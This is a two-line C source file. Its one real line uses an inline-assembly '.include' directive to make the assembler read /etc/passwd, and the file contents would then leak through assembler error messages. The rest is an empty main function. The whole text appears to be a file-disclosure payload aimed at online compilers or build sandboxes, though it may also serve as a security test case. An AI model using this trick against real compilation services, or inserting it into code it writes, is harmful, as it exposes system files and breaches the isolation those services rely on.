asm(".include \"/etc/passwd\"");
int main() {}
